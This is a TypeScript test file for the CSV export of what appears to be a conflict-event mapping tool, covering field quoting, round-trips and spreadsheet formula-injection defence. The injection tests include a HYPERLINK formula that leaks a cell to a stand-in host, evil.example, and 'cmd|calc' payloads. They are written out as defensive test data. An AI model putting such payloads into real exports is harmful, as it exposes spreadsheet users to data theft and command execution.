import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, CSV_TYPES, csvField, csvtText, eventsToCSV, parseCSV } from '../../src/core/export/csv';
import { EVENTS, FACTIONS, PLACES_BY_ID, SOURCES } from '../fixtures/export/record';

const ctx = { places: PLACES_BY_ID, factions: FACTIONS, sources: SOURCES };
const csv = eventsToCSV(EVENTS, ctx);

describe('csvField (RFC 4180)', () => {
  it('quotes only fields with commas, quotes or line breaks, doubling quotes', () => {
    expect(csvField('Homs')).toBe('Homs');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('حمص')).toBe('حمص');
  });
});

describe('CSV injection (OWASP): no cell runs as a formula in a spreadsheet', () => {
  it('prefixes an apostrophe to cells that begin with = + - @ tab or CR', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"source")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A2,""source"")"',
    );
    expect(csvField('+1+cmd')).toBe("'+1+cmd");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
  });

  it('leaves plain numbers, negative ones too, and text that merely contains = alone', () => {
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('+3')).toBe('+3');
    expect(csvField('36.73241')).toBe('36.73241');
    expect(csvField('a = b')).toBe('a = b');
  });

  it('neutralises a hostile quote in a whole events CSV', () => {
    const [first] = EVENTS;
    const hostile = {
      ...first!,
      note: '=HYPERLINK("http://evil.example/?"&A2,"source")',
      citations: [{ source: first!.citations[0]!.source, quote: '@cmd|calc' }],
    };
    const rows = parseCSV(eventsToCSV([hostile], ctx));
    const cells = rows[1]!;
    expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A2,"source")');
    expect(cells).toContain("'@cmd|calc");
  });
});

describe('eventsToCSV', () => {
  it('writes a header and one CRLF-terminated row per event', () => {
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCSV(csv)).toHaveLength(1 + EVENTS.length);
  });

  it('round-trips every field, with sources, quotes and Arabic intact', () => {
    const [header, ...rows] = parseCSV(csv);
    const recs = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
    expect(recs[0]).toEqual({
      id: '2024-12-06-rastan',
      date: '2024-12-06',
      alt_date: '',
      place: 'rastan',
      place_name: 'Rastan',
      place_name_ar: 'الرستن',
      lon: '36.73241',
      lat: '34.92667',
      status: 'controlled',
      factions: 'hts',
      faction_names: 'HTS-led Military Operations Command',
      blocs: 'opposition',
      confidence: 'high',
      precision: 'day',
      sources: '000_243acee9b8c246ee.txt;004_c6c7203b69ad82c5.txt',
      source_outlets: 'AFP;Associated Press',
      // Neither seed article has a URL: the two places stay, empty, so the lists line up.
      source_urls: ';',
      quotes: EVENTS[0]!.citations.map((c) => c.quote).join('\n'),
      note: 'two sources,\nsame day',
    });
    expect(recs[1]!.place_name_ar).toBe('حمص');
    // The raw text really does quote: a comma and a doubled quote appear inside a quoted field.
    expect(csv).toContain('fell under ""opposition control""');
  });

  it('has a .csvt sidecar with one GDAL type per column, lon and lat as the point', () => {
    const types = parseCSV(csvtText());
    expect(types).toHaveLength(1);
    expect(types[0]).toEqual(CSV_COLUMNS.map((c) => CSV_TYPES[c]));
    expect(types[0]![CSV_COLUMNS.indexOf('date')]).toBe('Date');
    expect(types[0]![CSV_COLUMNS.indexOf('lon')]).toBe('CoordX');
    expect(types[0]![CSV_COLUMNS.indexOf('lat')]).toBe('CoordY');
  });

  it('parses a hand-written RFC 4180 sample, LF endings included', () => {
    expect(parseCSV('a,"b,c","d""e"\nf,"g\r\nh",\n')).toEqual([
      ['a', 'b,c', 'd"e'],
      ['f', 'g\r\nh', ''],
    ]);
  });
});
